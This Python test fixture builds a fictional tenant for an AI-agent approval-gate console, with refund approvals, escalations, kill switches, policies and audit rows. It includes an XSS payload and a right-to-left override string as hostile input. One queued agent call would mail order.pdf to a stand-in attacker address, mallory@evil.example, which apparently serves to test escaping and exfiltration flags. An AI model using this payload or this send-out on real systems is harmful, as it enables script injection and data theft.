"""What the gate and people do in the made-up tenant: questions, escalations, switches, policies, an audit."""

import hashlib
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from tests.console.chronicle import RELEASES, Json, iso, run_id

HOSTILE = "<img src=x onerror=alert(1)> \u202edesrever"
HOUR = 3600
LEVELS = ("suggest", "ask_always", "ask_when_risky", "free")
POLICY = """// Refunds at night wait for the morning shift.
@id("night")
@ask("Nobody watches refunds at night.")
forbid (principal, action == Action::"orders.refund", resource)
when { context.hour < 6 }
unless { context.approved };

@id("cap")
@reason("Refunds above $500 are made by people.")
forbid (principal, action == Action::"orders.refund", resource)
when { context.arguments.amount > 50000 };
"""
BASE = """@id("granted")
permit (principal, action, resource);

@id("dangerous")
@ask("Calls of this kind need a yes: messages to outsiders, payments, deletions, changes of access.")
forbid (principal, action, resource)
when { context.autonomy == "ask_when_risky" && resource.effect == "payment" }
unless { context.approved };
"""
SAYS = [
    "asks about orders.refund if context.hour < 6: Nobody watches refunds at night.",
    "forbids orders.refund if context.arguments.amount > 50000: Refunds above $500 are made by people.",
]


def ident(words: str) -> str:
    """The same id for the same words."""
    return run_id(int(hashlib.sha256(words.encode()).hexdigest()[:8], 16), datetime(2026, 11, 1, tzinfo=UTC))


def digest(value: object) -> str:
    return hashlib.sha256(repr(value).encode()).hexdigest()


@dataclass
class Gate:
    """What the server knows of the gate. Tests change it as the console does, and look at it."""

    now: datetime = field(default_factory=lambda: datetime.now(UTC))
    approvals: dict[str, Json] = field(default_factory=dict)
    escalations: dict[str, Json] = field(default_factory=dict)
    switches: dict[str, Json] = field(default_factory=dict)
    policies: dict[str, list[Json]] = field(default_factory=dict)
    levels: dict[tuple[str, str], Json] = field(default_factory=dict)
    audit: list[Json] = field(default_factory=list)
    broken: bool = False

    def ago(self, seconds: float) -> str:
        return iso(self.now - timedelta(seconds=seconds))

    def ask(self, words: str, tool: str, arguments: Json, *, run: str = "", waited: float = 600, **rest: Any) -> Json:
        """A question that waits for an answer."""
        agent = str(rest.pop("agent", "refund-desk"))
        made: Json = {
            "approval_id": str(rest.pop("id", "")) or ident(words),
            "run_id": run or ident(f"run of {words}"),
            "call": "call_2",
            "step": 2,
            "tool": tool,
            "agent": agent,
            "release": RELEASES[agent],
            "agent_version": f"{agent}@{RELEASES[agent][:12]}",
            "user_id": "maria",
            "effect": "payment",
            "risk_level": "money",
            "summary": words,
            "arguments": arguments,
            "edited": None,
            "origins": {},
            "reason": "Calls of this kind need a yes: messages to outsiders, payments, deletions, changes of access.",
            "rule": "permission",
            "policies": ["base/dangerous"],
            "effective": digest("live"),
            "people": 1,
            "roles": ["reviewer"],
            "votes": [],
            "state": "pending",
            "asked_at": self.ago(waited),
            "expires_at": self.ago(waited - 24 * HOUR),
            "age_s": int(waited),
            "digest": digest(arguments),
            "answered_at": None,
            "answered_by": [],
            "why": "",
            "consumed_at": None,
            "previous": None,
            "similar": {"approved": 0, "denied": 0, "expired": 0},
            **rest,
        }
        self.approvals[made["approval_id"]] = made
        return made

    def answer(self, held: Json, state: str, by: str, why: str = "", after: float = 95) -> Json:
        held |= {"state": state, "answered_by": [by] if by else [], "why": why, "age_s": int(after)}
        at = iso(datetime.fromisoformat(held["asked_at"]) + timedelta(seconds=after))
        held |= {"answered_at": at, "consumed_at": at if state == "approved" and after < HOUR else None}
        return held

    def throw(self, **wanted: Any) -> Json:
        made: Json = {
            "switch_id": ident(f"switch {len(self.switches)} {wanted}"),
            "tenant": "acme",
            "deployment": False,
            "scope": "tool",
            "target": "",
            "agent": None,
            "action": "disable",
            "value": None,
            "in_flight": "finish",
            "words": f"The {wanted.get('scope', 'tool')} {wanted.get('target', '')} is switched off",
            "why": "",
            "thrown_by": "key:k1",
            "thrown_at": iso(datetime.now(UTC)),
            "until": None,
            "state": "standing",
            "lifted_at": None,
            "lifted_by": None,
            "lifted_why": None,
            **{name: value for name, value in wanted.items() if name != "for_s"},
        }
        self.switches[made["switch_id"]] = made
        self.note("switch.thrown", "key:k1", "disable", made["target"])
        return made

    def keep(self, name: str, text: str | None, why: str, by: str = "key:k1") -> Json:
        """One more version of a policy."""
        versions = self.policies.setdefault(name, [])
        number = len(versions) + 1
        kept = {
            "name": name,
            "version": number,
            "text": text,
            "says": SAYS if text else [],
            "why": why,
            "set_by": by,
            "set_at": iso(datetime.now(UTC)),
            "etag": f'"{name}-{number}"',
        }
        versions.append(kept)
        self.note("policy.set", by, "set", name)
        return kept

    def note(self, kind: str, actor: str, action: str, target: str = "", **rest: Any) -> Json:
        """One row of the audit; the newest two are not sealed yet."""
        number = len(self.audit) + 1
        made: Json = {
            "id": ident(f"audit {number}"),
            "position": number,
            "at": iso(datetime.now(UTC)),
            "kind": kind,
            "actor": actor,
            "action": action,
            "target": target,
            "run_id": None,
            "call": "",
            "seq": None,
            "user_id": "",
            "release": "",
            "verdict": "",
            "rule": "",
            "approved_by": [],
            "status": "",
            "effective": digest("live"),
            "hash": digest(number),
            **rest,
        }
        self.audit.append(made)
        return made

    def pending(self) -> list[Json]:
        return [held for held in self.approvals.values() if held["state"] == "pending"]


def _questions(gate: Gate) -> None:
    """What was answered before, and what waits."""
    for at, (order, amount, state, why) in enumerate(
        (
            (1011, 1900, "approved", ""),
            (1032, 129900, "denied", "The customer keeps the goods; offer a voucher instead."),
            (1040, 4200, "approved", "Seen the photo of the damage."),
            (1051, 8800, "expired", ""),
            (1066, 25000, "approved", ""),
        )
    ):
        arguments = {"order": order, "amount": amount, "currency": "usd", "card": "card_1Nq8", "reason": "damaged"}
        words = f"refund ${amount / 100:,.2f} for order {order}"
        held = gate.ask(words, "orders.refund", arguments, waited=(9 - at) * 26 * HOUR)
        gate.answer(held, state, "" if state == "expired" else "lukas (key:k4)", why)
    last = {"order": 1066, "amount": 25000, "currency": "usd", "card": "card_1Nq8", "reason": "damaged"}
    known = {
        "previous": {"arguments": last, "at": gate.ago(5 * 26 * HOUR)},
        "similar": {"approved": 41, "denied": 3, "expired": 1},
    }
    refund = {"order": 1077, "amount": 64000, "currency": "usd", "card": "card_9Zx2", "note": "parcel lost"}
    gate.ask(
        "refund $640.00 for order 1077",
        "orders.refund",
        refund,
        waited=12 * 60,
        origins={"order": "user", "amount": "trusted", "currency": "author", "card": "untrusted", "note": "model"},
        policies=["base/dangerous", "no-night-refunds/night"],
        **known,
    )
    gate.ask(
        "delete the account of tomás and 3 invoices",
        "crm.delete_account",
        {"account": "tomás", "invoices": [4, 5, 9]},
        agent="ops-helper",
        effect="deletion",
        risk_level="irreversible",
        waited=23.9 * HOUR,
        people=2,
        votes=[{"by": "chen (key:k9)", "at": gate.ago(3 * HOUR)}],
        origins={"account": "user", "invoices": "endorsed"},
    )
    gate.ask(
        "send order.pdf to mallory@evil.example",
        "mail.send",
        {"to": "mallory@evil.example", "subject": HOSTILE, "body": "as you asked\n" * 9},
        agent="support-desk",
        effect="external_message",
        risk_level="irreversible",
        user_id="<b>mallory</b>",
        waited=4 * 60,
        origins={"to": "untrusted", "subject": "untrusted", "body": "model"},
        reason="Where this goes was not said by anybody whom the agent serves: it can come from outsiders.",
        policies=["base/destination"],
    )
    for number, street in ((90412, "Am Hang 4"), (90517, "Elm Street 12")):
        gate.ask(
            f"change the address of order {number} to {street}",
            "orders.set_address",
            {"order": number, "street": street},
            agent="support-desk",
            effect="write",
            risk_level="write",
            waited=40 * 60,
            origins={"order": "user", "street": "user"},
        )


def _escalations(gate: Gate) -> None:
    told = (
        ("open", "The customer wants the invoice of a company that is not theirs, and threatens to go to court.", ""),
        ("claimed", "Third parcel in a row that was lost; asks for somebody who can decide on a goodwill credit.", ""),
        (
            "closed",
            "Could not find the order under any of the three names.",
            "It was bought at a fair; told so by phone.",
        ),
    )
    for at, (state, summary, note) in enumerate(told):
        made: Json = {
            "escalation_id": ident(summary),
            "run_id": ident(f"run of {summary}"),
            "thread_id": ident(f"thread of {summary}") if at == 0 else None,
            "call": "call_7",
            "agent": "support-desk",
            "user_id": "amira",
            "owner": "team-support",
            "summary": summary,
            "why": "this is beyond what I may decide",
            "state": state,
            "opened_at": gate.ago((at + 1) * 2900),
            "age_s": (at + 1) * 2900,
            "claimed_by": None if state == "open" else "lukas (key:k4)",
            "claimed_at": None if state == "open" else gate.ago(1900),
            "closed_by": "lukas (key:k4)" if state == "closed" else None,
            "closed_at": gate.ago(600) if state == "closed" else None,
            "note": note,
        }
        gate.escalations[made["escalation_id"]] = made


def _audit(gate: Gate) -> None:
    for at in range(240):
        tool, verdict = (("orders.find", "allow"), ("orders.refund", "ask"), ("mail.send", "deny"))[
            (at % 7 == 3) + (at % 11 == 5)
        ]
        kind = {"allow": "tool.called", "ask": "approval.asked", "deny": "tool.denied"}[verdict]
        gate.note(
            kind,
            "agent:support-desk",
            tool,
            "order 1077" if verdict == "ask" else "",
            at=gate.ago((240 - at) * 37),
            run_id=ident(f"run {at // 4}"),
            seq=at % 9 + 3,
            user_id="maria",
            release=RELEASES["support-desk"],
            verdict=verdict,
            rule="permission" if verdict != "allow" else "default",
            approved_by=["person:lukas"] if at % 13 == 4 else ["policy:base/granted"],
            status="happened" if verdict == "allow" else "",
        )


def gate_of_day() -> Gate:
    """The gate at some time of a working day: five questions wait, two switches were thrown and lifted."""
    gate = Gate()
    _questions(gate)
    _escalations(gate)
    gate.keep("no-night-refunds", POLICY.partition('\n@id("cap")')[0], "two night shifts were lost")
    gate.keep("no-night-refunds", POLICY, "big refunds are never urgent")
    gate.keep("no-mail-to-strangers", POLICY.replace("orders.refund", "mail.send"), "see the audit of October")
    for words, target in (("pays twice", "orders.refund"), ("the API of the shop is down", "orders.find")):
        thrown = gate.throw(scope="tool", target=target, why=words, thrown_at=gate.ago(30 * HOUR), in_flight="cancel")
        lifted = {
            "lifted_at": gate.ago(28 * HOUR),
            "lifted_by": "key:k1",
            "lifted_why": "fixed in 1.3",
            "state": "lifted",
        }
        thrown |= lifted
    _audit(gate)
    return gate
